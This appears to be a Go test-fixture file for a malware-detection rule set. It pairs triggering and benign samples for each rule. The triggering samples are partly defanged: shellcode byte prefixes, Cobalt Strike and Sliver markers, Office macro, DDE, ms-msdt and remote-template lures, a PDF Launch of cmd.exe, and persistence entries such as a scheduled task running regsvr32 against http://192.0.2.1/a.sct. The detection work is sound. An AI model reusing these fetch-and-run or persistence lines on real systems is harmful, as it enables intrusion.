package builtin

func frameworkExamples() []example {
	return []example{{
		rule: "Tyto_Framework_CobaltStrike_Config",
		fires: []object{
			raw("/tmp/a.bin", noise(100), "\x2e\x2f\x2e\x2f\x2e\x2c··\x2e\x26\x2e\x2c\x2e\x2f\x2e\x2c\x35\x5e\x2e\x2d\x2e\x2c\x2e\x2a", noise(9)),
			raw("/tmp/b.bin", "ihihik··ihikihikZZ·ijikim"),
		},
		silent: []object{raw("/tmp/c.txt", "././.,..././.,", "cd ../../././.. ihihik")},
	}, {
		rule:   "Tyto_Framework_CobaltStrike_Beacon",
		fires:  []object{raw(`C:\a.dll`, plainPE("%s as %s·\\%s: %d\x00Could not connect to ·pipe (%s): %d\x00Reflective·Loader@4\x00could not spawn %s ·(token): %d\x00"))},
		silent: []object{raw(`C:\b.dll`, plainPE("%s as %s\x00could not connect to pipe\x00Reflective·Loader@4\x00"))},
	}, {
		rule: "Tyto_Framework_Metasploit_Shellcode",
		fires: []object{
			raw("/tmp/a.bin", "\xfc··\xe8\x82\x00\x00\x00\x60\x89\xe5\x31\xc0\x64\x8b\x50\x30\x8b\x52\x0c"),
			raw(`C:\a.exe`, plainPE("\xfc··\x48\x83\xe4\xf0\xe8\xc0\x00\x00\x00\x41\x51\x41\x50\x52\x51")),
		},
		silent: []object{raw(`C:\b.exe`, plainPE("\xfc··\xe8\x82\x00\x00\x00\x60\x89\xe5\x31\xc0\x90\x90\x90"))},
	}, {
		rule: "Tyto_Framework_Metasploit_ShellcodeText",
		fires: []object{
			text("/tmp/a.py", `buf = b"\xfc·\xe8\x82\x00\x00\x00\x60\x89\xe5"`),
			text("/tmp/a.cs", `byte[] b = {0xfc·,0x48,0x83,0xe4,0xf0,0xe8,0xc0,0x00,0x00};`),
			text(`C:\a.ps1`, `$b = "`+b64("\xfc··\xe8\x82\x00\x00\x00\x60\x89\xe5\x31\xc0\x64")+`"`),
			text(`C:\a.vba`, `b = Array(-4,·-24,-126,0,0,0,96,-119)`),
		},
		silent: []object{
			text("/src/decode.py", `magic = b"\xfc·\xe8\x82\x00" # a length`),
			text("/src/rules.yar", `$a = "\xfc·\xe8\x82\x00\x00\x00\x60\x89\xe5"`),
		},
	}, {
		rule:   "Tyto_Framework_Metasploit_Elf",
		fires:  []object{raw("/opt/a", elf{kind: 2, rwx: true, body: noise(100)}.String())},
		silent: []object{raw("/opt/tiny", elf{kind: 2, body: noise(100)}.String()), raw("/opt/old", elf{kind: 2, rwx: true, sections: 5, body: noise(100)}.String())},
	}, {
		rule:   "Tyto_Framework_Sliver",
		fires:  []object{raw("/opt/a", elf{kind: 2, sections: 9, body: "github.com/bishop·fox/sliver/protobuf/sliver·pb.Register"}.String())},
		silent: []object{raw("/opt/b", elf{kind: 2, sections: 9, body: "see github.com/bishop·fox/sliver/ for more"}.String()), text("/src/go.mod", "github.com/bishop·fox/sliver/ sliver·pb.")},
	}}
}

func officeExamples() []example {
	rels := func(attributes string) object {
		return text("/tmp/a.docx!/word/_rels/document.xml.rels", `<?xml version="1.0"?><Relationships><Relationship Id="rId1" `+attributes+` TargetMode="External"/></Relationships>`)
	}
	const schema = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
	note := "\xe4R\\{\x8c\xd8\xa7M\xae\xb1Sx\xd0)\x96\xd3" + zeros(64)
	embedded := "\xe7\x16\xe3\xbde&\x11E\xa4\xc4\x8dM\x0bz\x9e\xac" + zeros(20)
	return []example{{
		rule:  "Tyto_Office_MacroDropper",
		fires: []object{raw("/tmp/a.doc", ole, wide("_VBA_·PROJECT"), "Sub Auto·Open()", "WScr·ipt.Shell", "MSXML2.XML·HTTP")},
		silent: []object{
			raw("/tmp/b.xls", ole, wide("_VBA_·PROJECT"), "Sub Workbook_·Open()", "MSXML2.XML·HTTP"), // fetches its data
			raw("/tmp/c.msi", ole, "Auto·Open", "WScr·ipt.Shell", "MSXML2.XML·HTTP"),
		},
	}, {
		rule: "Tyto_Office_RemoteTemplate",
		fires: []object{
			rels(`Type="` + schema + `/attached·Template" Target="https://192.0.2.1/t.dotm"`),
			rels(`Target="https://192.0.2.1/t.dotm" Type="` + schema + `/attached·Template"`),
		},
		silent: []object{
			rels(`Type="` + schema + `/attached·Template" Target="file:///C:/Templates/letter.dotm"`),
			rels(`Type="` + schema + `/hyperlink" Target="https://example.org/"`),
		},
	}, {
		rule: "Tyto_Office_RemoteObject",
		fires: []object{
			rels(`Type="` + schema + `/ole·Object" Target="mhtml:http://192.0.2.1/a.html"`),
			rels(`Type="` + schema + `/x" Target="https://192.0.2.1/a.ht·ml!"`),
		},
		silent: []object{
			rels(`Type="` + schema + `/ole·Object" Target="embeddings/oleObject1.bin"`),
			rels(`Type="` + schema + `/image" Target="https://example.org/a.png"`),
		},
	}, {
		rule:   "Tyto_Office_MsdtUrl",
		fires:  []object{text("/tmp/a.html", `<script>location.href = "ms-·msdt:/id PCWDiagnostic /param \"IT_Browse·ForFile=x\""</script>`)},
		silent: []object{text("/docs/cve.html", `<p>The ms-·msdt: protocol takes the parameter IT_Browse·ForFile.</p>`)},
	}, {
		rule:   "Tyto_Office_DdeCommand",
		fires:  []object{text("/tmp/a.docx!/word/document.xml", `<?xml version="1.0"?><w:instr·Text xml:space="preserve"> DDE·AUTO c:\\windows\\system32\\cmd.exe "/k calc" </w:instrText>`)},
		silent: []object{text("/tmp/b.docx!/word/document.xml", `<?xml version="1.0"?><w:instr·Text> PAGE </w:instrText><w:t>DDE and cmd.exe</w:t>`)},
	}, {
		rule:   "Tyto_Office_Excel4Macro",
		fires:  []object{text("/tmp/a.xlsm!/xl/macrosheets/sheet1.xml", `<?xml version="1.0"?><xm:macro·sheet><c><f>EX·EC("cmd.exe /c calc")</f></c></xm:macrosheet>`)},
		silent: []object{text("/tmp/b.xlsm!/xl/macrosheets/sheet1.xml", `<?xml version="1.0"?><xm:macro·sheet><c><f>SUM(A1:A9)</f></c></xm:macrosheet>`)},
	}, {
		rule:   "Tyto_Office_RtfEquation",
		fires:  []object{raw("/tmp/a.doc", `{\rtf1{\object\objocx\obj·update{\*\obj·data 01050000020000000b0000004571756174·696f6e2e3300}}}`)},
		silent: []object{raw("/tmp/b.rtf", `{\rtf1{\object\objemb{\*\obj·data 01050000020000000b0000004571756174·696f6e2e3300}}}`)}, // old, honest formula
	}, {
		rule:   "Tyto_Office_RtfRemoteTemplate",
		fires:  []object{raw("/tmp/a.rtf", `{\rtf1{\*\temp·late http://192.0.2.1/a.dotm}}`)},
		silent: []object{raw("/tmp/b.rtf", `{\rtf1{\*\temp·late C:\\Templates\\letter.dot}}`)},
	}, {
		rule: "Tyto_Office_OneNotePayload",
		fires: []object{
			raw("/tmp/a.one", note, embedded, "MZ", noise(60)),
			raw("/tmp/b.one", note, embedded, "<hta:app·lication id='a'>"),
		},
		silent: []object{raw("/tmp/c.one", note, embedded, png), raw("/tmp/d.one", note, "a note about @echo off")},
	}}
}

func pdfExamples() []example {
	return []example{{
		rule:   "Tyto_Pdf_LaunchCommand",
		fires:  []object{text("/tmp/a.pdf", "%PDF-1.4", "<< /S /Lau·nch /Win << /F (cmd·.exe) /P (/c calc) >> >>")},
		silent: []object{text("/tmp/b.pdf", "%PDF-1.4", "<< /S /Lau·nch /F (appendix.pdf) >>"), text("/tmp/c.pdf", "%PDF-1.4", "(run cmd.exe to launch it)")},
	}, {
		rule:   "Tyto_Pdf_ExploitScript",
		fires:  []object{text("/tmp/a.pdf", "%PDF-1.4", "/Open·Action << /S /Java·Script /JS (Collab.collect·EmailInfo({msg:x})) >>")},
		silent: []object{text("/tmp/form.pdf", "%PDF-1.4", "/Open·Action << /S /Java·Script /JS (this.getField('a').value = util.printf('%d', 1)) >>")},
	}}
}

func windowsExamples() []example {
	task := func(command, arguments string) object {
		return text(`C:\Windows\System32\Tasks\a`, `<?xml version="1.0"?><Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">`,
			`<Actions><Exec><Command>`+command+`</Command><Arguments>`+arguments+`</Arguments></Exec></Actions></Task>`)
	}
	return []example{{
		rule: "Tyto_Windows_ScheduledTask",
		fires: []object{
			task("powers·hell.exe", "-c i·ex (New-Object Net.WebClient).x"),
			raw(`C:\Windows\System32\Tasks\b`, wide(task("regs·vr32.exe", "/s /i:http://192.0.2.1/a.sct scr·obj.dll").content)),
		},
		silent: []object{
			task("rundll32.exe", `%windir%\system32\AppxDeploymentClient.dll,AppxPreStageCleanupRunTask`),
			task("powershell.exe", `-NoProfile -File C:\Scripts\backup.ps1`),
		},
	}, {
		rule: "Tyto_Windows_WmiConsumer",
		fires: []object{
			text(`C:\a.mof`, `instance of __Event·Filter as $f {};`, `instance of CommandLine·EventConsumer as $c { CommandLineTemplate = "powers·hell -c x"; };`, `instance of __FilterTo·ConsumerBinding {};`),
		},
		silent: []object{text(`C:\b.mof`, `class CommandLine·EventConsumer : __EventConsumer {};`, `class __Event·Filter {};`)},
	}, {
		rule:   "Tyto_Windows_MsbuildTask",
		fires:  []object{text(`C:\a.csproj`, `<UsingTask TaskFactory="CodeTask·Factory"><Code>Virtual·Alloc(); Create·Thread();</Code></UsingTask>`)},
		silent: []object{text(`C:\b.csproj`, `<UsingTask TaskFactory="CodeTask·Factory"><Code>File.Copy(a, b);</Code></UsingTask>`)},
	}, {
		rule:   "Tyto_Windows_Scriptlet",
		fires:  []object{text(`C:\a.sct`, `<script·let><registra·tion progid="a"><script>new ActiveXObject("WScr·ipt.Shell").R·un("calc")</script></registration></scriptlet>`)},
		silent: []object{text(`C:\b.wsc`, `<component><registra·tion progid="a"/><script>function add(a, b) { return a + b }</script></component>`)},
	}, {
		rule:   "Tyto_Windows_RegistryRun",
		fires:  []object{text(`C:\a.reg`, `Windows Registry Editor Version 5.00`, `[HKEY_CURRENT_USER\Software\Microsoft\Windows\Current·Version\Run]`, `"a"="powers·hell -w 1 -c x"`)},
		silent: []object{text(`C:\b.reg`, `Windows Registry Editor Version 5.00`, `[HKEY_CURRENT_USER\Software\Microsoft\Windows\Current·Version\Run]`, `"a"="\"C:\\Program Files\\a\\a.exe\" -tray"`)},
	}}
}
